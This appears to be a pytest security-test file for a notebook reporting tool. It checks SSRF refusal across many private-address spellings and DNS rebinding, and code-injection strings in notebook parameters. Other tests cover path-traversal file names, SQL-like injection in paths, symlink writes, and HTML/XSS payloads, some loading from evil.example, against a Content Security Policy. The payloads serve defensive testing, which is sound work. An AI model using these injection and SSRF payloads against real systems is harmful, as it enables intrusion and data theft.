"""Addresses, names, values, manifests and markup of strangers: none becomes code, a path or a connection."""

from __future__ import annotations

import http.server
import json
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import datetime
from pathlib import Path
from typing import Any

import in_chromium
import nbformat
import pytest

import workbench
from workbench import cli
from workbench.display import theme
from workbench.errors import UsageError
from workbench.media.addresses import Refused
from workbench.media.http import Asker, Failed, Limits
from workbench.reporting.again import again
from workbench.reporting.chromium import surroundings
from workbench.reporting.engine import Execution, execute
from workbench.reporting.kernel import close_loop
from workbench.reporting.kernel_variables import bucket_keys, for_kernels
from workbench.reporting.page import About, chart_library, page
from workbench.reporting.parameters import checked, declared
from workbench.reporting.spreadsheet import file_stem
from workbench.settings import Settings
from workbench.whole_files import write_whole

SPELLED = """
    127.0.0.1 localhost 2130706433 0x7f000001 0177.0.0.1 017700000001 127.1 127.0.0.1. 10.0.0.1 172.16.0.1 192.168.1.1
    169.254.169.254 100.64.0.1 224.0.0.1 255.255.255.255 192.0.0.1 198.18.0.1 240.0.0.1 [::1] [::] [::ffff:127.0.0.1]
    [::ffff:10.0.0.1] [::7f00:1] [fe80::1] [fc00::1] [fec0::1] [64:ff9b::7f00:1] [2002:7f00:1::]
    [0:0:0:0:0:ffff:7f00:1] 0.0.0.0
"""
PRIVATE = SPELLED.split()
ATTACKS = (
    "__import__('os').system('touch {0}')",
    "'; __import__('os').system('touch {0}') #",
    '"; __import__("os").system("touch {0}") #',
    "'''; import os; os.system('touch {0}') #'''",
    "\\'; import os; os.system('touch {0}') #",
    "x'\nimport os; os.system('touch {0}')\n'",
    "x\r!touch {0}",
    "\u2028import os; os.system('touch {0}')",
    "%%bash\ntouch {0}",
    "{{__import__('os').system('touch {0}')}}",
    "$(touch {0})`touch {0}`",
    "\\N{{BULLET}}\\x27; import os; os.system('touch {0}') #",
)
NAMES = (
    *(
        "../../x",
        "..",
        ".",
        "/etc/passwd",
        "a/b",
        "a\\b",
        "C:\\x",
        "~root",
        "-rf",
        "$(touch x)",
        "x\x00y",
        "CON",
        "nul",
    ),
    *(
        "'; drop table posts; --",
        "\u202egnp.exe",
        "%2e%2e%2f",
        "a\nb",
        " ",
        "",
        "\N{FULLWIDTH SOLIDUS}x",
        "x" * 400,
        ".ssh",
    ),
)


@contextmanager
def server(leads_to: str) -> Iterator[tuple[int, list[str]]]:
    """A server on this machine that sends everybody elsewhere, and what it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(302)
            self.send_header("Location", leads_to.format(port=self.server.server_port))  # type: ignore[attr-defined]
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_said: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as serving:
        threading.Thread(target=serving.serve_forever, daemon=True).start()
        yield serving.server_port, asked
        serving.shutdown()


def test_no_private_address_is_asked_in_any_spelling_or_by_a_redirect_or_a_second_look_up(
    figure: Callable[..., None], monkeypatch: pytest.MonkeyPatch
) -> None:
    limits = Limits(most_bytes=1_000_000, connect_seconds=2, silence_seconds=1, file_seconds=2)
    with server("http://localhost:{port}/private") as (port, asked):
        with Asker([], limits) as asker:
            for host in PRIVATE:
                for scheme in ("http", "https"):
                    with pytest.raises((Refused, Failed)):
                        asker.ask(f"{scheme}://{host}:{port}/picture")
        assert asked == []
        with Asker([f"127.0.0.1:{port}"], limits) as asker:
            answer = asker.ask(f"http://127.0.0.1:{port}/first")
            assert answer.status == 302
            with pytest.raises(Refused):
                asker.ask(answer.headers["location"])
        assert asked == ["/first"], "it was followed to a host that the settings do not name"
        real, looked_up = socket.getaddrinfo, []

        def rebinding(host: str, *args: Any, **more: Any) -> Any:
            if host != "rebinding.example":
                return real(host, *args, **more)
            looked_up.append(host)
            return real("127.0.0.1", *args, **more)

        monkeypatch.setattr(socket, "getaddrinfo", rebinding)
        with Asker([], limits) as asker, pytest.raises(Refused):
            asker.ask(f"http://rebinding.example:{port}/picture")
        assert (len(looked_up), asked) == (1, ["/first"])
    figure("private_addresses_refused", 2 * len(PRIVATE) + 2, "addresses", connections=0)


def test_values_of_parameters_stay_values_and_kernels_know_no_password(
    tmp_path: Path, figure: Callable[..., None], monkeypatch: pytest.MonkeyPatch
) -> None:
    notebook, hit = tmp_path / "asks.ipynb", tmp_path / "hit"
    parameters = nbformat.v4.new_code_cell("word: str = 'a'  # any\nwords: list[str] = []  # any")
    parameters.metadata["tags"] = ["parameters"]
    shows = "import json, os; print(json.dumps([word, words, dict(os.environ)]))"
    nbformat.write(nbformat.v4.new_notebook(cells=[parameters, nbformat.v4.new_code_cell(shows)]), notebook)
    canaries = {
        "WORKBENCH_SMTP_PASSWORD": "canary-smtp",
        "WORKBENCH_SMTP_USER": "canary-user",
        "WORKBENCH_SECRET": "canary-secret",
        "WORKBENCH_BACKUP_IDENTITY": "canary-backup",
        "AWS_ACCESS_KEY_ID": "canary-id",
        "AWS_SECRET_ACCESS_KEY": "canary-aws",
        "AWS_SESSION_TOKEN": "canary-session",
        "JUPYTER_TOKEN": "canary-token",
    }
    for name, value in canaries.items():
        monkeypatch.setenv(name, value)
    known = declared(notebook)
    tried = [attack.format(hit) for attack in ATTACKS]
    given = {"word": "\x00".join(tried).replace("\x00", " | "), "words": json.dumps(tried)}
    values = checked(given, {"asks": known})["asks"]
    output = tmp_path / "out" / "asks.ipynb"
    output.parent.mkdir()
    try:
        ran = execute(notebook, values, environment={"WORKBENCH_HOME": str(tmp_path)}, output=output)
    finally:
        close_loop()
    assert ran.failure is None, ran.failure
    word, words, variables = json.loads(ran.notebook.cells[-1].outputs[0].text)
    assert words == tried
    assert word == given["word"]
    assert not hit.exists()
    assert variables["WORKBENCH_HOME"] == str(tmp_path)
    assert [v for v in variables.values() if v.startswith("canary")] == []
    assert not any(c in output.read_text() for c in canaries.values())
    assert not any(v.startswith("canary") for v in surroundings(tmp_path).values())
    figure("parameters_tried_as_code", 2 * len(tried), "values", ran=0, secrets_in_kernel=0)


def test_a_bucket_of_pictures_gives_kernels_its_keys_and_nothing_else() -> None:
    variables = {
        "AWS_ACCESS_KEY_ID": "a",
        "AWS_SECRET_ACCESS_KEY": "b",
        "WORKBENCH_SMTP_PASSWORD": "c",
        "PATH": "d",
    }
    bucket, folder = Settings(media_storage="s3://pictures"), Settings()
    assert for_kernels(variables) == {"PATH": "d"}
    assert bucket_keys(variables, folder) == {}
    assert bucket_keys(variables, bucket) == {"AWS_ACCESS_KEY_ID": "a", "AWS_SECRET_ACCESS_KEY": "b"}
    assert for_kernels(variables, bucket).keys() == {"PATH", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"}


def test_names_from_the_data_become_names_of_files_and_no_paths(
    tmp_path: Path, figure: Callable[..., None]
) -> None:
    for name in NAMES:
        stem = file_stem(name, "report")
        made = tmp_path / stem
        assert made.name == stem
        assert made.resolve().parent == tmp_path.resolve()
        assert not stem.startswith((".", "-", "~"))
        made.touch()
    figure("names_as_paths", len(NAMES), "names", outside=0)


@pytest.mark.parametrize("report", ["../../elsewhere", "/etc/x", "..", "a/b", "a\x00b", "a\nb", ".hidden"])
def test_a_manifest_of_a_stranger_writes_nowhere_else(tmp_path: Path, report: str) -> None:
    manifest = {
        "report": report,
        "period": "2025-W40",
        "pages": [{"name": "../../x"}],
        "warehouse": {"version": 1},
    }
    with pytest.raises(UsageError) as error:
        again(manifest, Settings(home=tmp_path))
    assert "can't be a folder's name" in str(error.value)
    assert "There is no notebook '../../x' any more" in str(error.value)


def test_a_link_in_the_place_of_a_file_is_replaced_and_not_followed(tmp_path: Path) -> None:
    victim, place = tmp_path / "victim", tmp_path / "index.html"
    victim.write_text("untouched")
    place.symlink_to(victim)
    write_whole(place, "new")
    assert (victim.read_text(), place.read_text(), place.is_symlink()) == ("untouched", "new", False)


def test_a_home_whose_name_is_an_attack_is_a_home_like_others(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], figure: Callable[..., None]
) -> None:
    """Paths stand in SQL and in commands: quotes, semicolons and dollars in them are letters."""
    home = tmp_path / "a'b; drop table posts; --\" $(touch hit) %s {x}"
    home.mkdir()
    file = home / "o'clock; x.csv"
    file.write_text("account_id,platform,username\ntiktok:o'brien,tiktok,o'brien; drop table posts; --\n")
    assert cli.main(["import", str(file), "--as", "accounts", "--home", str(home)]) == 0, (
        capfd.readouterr().err
    )
    for words in (["sql", "from accounts", "--out", str(home / "o'ut.csv")], ["status"]):
        assert cli.main([*words, "--home", str(home)]) == 0, capfd.readouterr().err
    assert "o'brien" in (home / "o'ut.csv").read_text()
    with workbench.connect(home) as wb:
        assert wb.tables.accounts.count().execute() == 1
    assert not list(tmp_path.rglob("hit"))
    figure("home_named_as_an_attack", 3, "commands", failed=0)


def page_with_a_chart(folder: Path) -> str:
    """A page as a report has it, with the chart library in it."""
    spec = {
        "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
        "data": {"values": [{"day": "2025-10-01", "views": 3}, {"day": "2025-10-02", "views": 5}]},
        "transform": [{"calculate": "datum.views * 2", "as": "twice"}],
        "mark": {"type": "line", "tooltip": True},
        "encoding": {
            "x": {"field": "day", "type": "temporal"},
            "y": {"field": "twice", "type": "quantitative"},
        },
    }
    shown = nbformat.v4.new_output("display_data", {theme.MIME: spec, "text/plain": "a chart"})
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("chart", outputs=[shown])])
    about = About(name="x", title="X", period="Week 40", version=1, as_of=datetime(2025, 10, 6))
    made = page(Execution("x", notebook, 0.0), about, bundle=chart_library(folder / "cache"))
    assert "unsafe-eval" not in made.partition("</head>")[0]
    return made


@pytest.mark.skipif(in_chromium.CHROMIUM is None, reason="no Chromium here")
def test_what_gets_into_a_page_all_the_same_runs_nothing_and_loads_nothing(
    tmp_path: Path, figure: Callable[..., None]
) -> None:
    whole = page_with_a_chart(tmp_path)
    attacks = (
        "<script>window.hit=1</script>",
        "<img src=x onerror='window.hit=1'>",
        "<svg onload='window.hit=1'></svg>",
        "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
        "<script src='https://evil.example/x.js'></script>",
        "<img src='https://evil.example/x.png'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<object data='https://evil.example/x'></object>",
        "<base href='https://evil.example/'>",
        "<form action='https://evil.example/' id=f><input name=a></form>",
        "<style>@import 'https://evil.example/y.css'; body{background:url(https://evil.example/z.png)}</style>",
        "<video src='https://evil.example/x.mp4'></video>",
        "<meta http-equiv=refresh content='600;url=https://evil.example'>",
    )
    plain, attacked = tmp_path / "plain.html", tmp_path / "attacked.html"
    plain.write_text(whole, encoding="utf-8")
    attacked.write_text(whole.replace("</body>", "".join(attacks) + "</body>"), encoding="utf-8")
    with in_chromium.chromium(tmp_path) as browser:
        clean = in_chromium.visited(browser, plain)
        assert clean.said == []
        assert clean.asked == [plain.as_uri()]
        clean.close()
        visit = in_chromium.visited(browser, attacked)
        visit.tab.wait_for_timeout(300)
        assert visit.tab.evaluate("window.hit") is None
        visit.tab.evaluate("fetch('https://evil.example/f').catch(() => 0)")
        visit.tab.evaluate("document.getElementById('f').submit()")
        visit.tab.wait_for_timeout(200)
        blocked = [s for s in visit.said if "Content Security Policy" in s]
        assert visit.tab.url == attacked.as_uri()
        assert visit.tab.evaluate("document.styleSheets.length") > 0
        visit.close()
    assert len(blocked) >= 9, visit.said
    figure("markup_in_a_page", len(attacks), "attacks", ran=0, refusals=len(blocked))
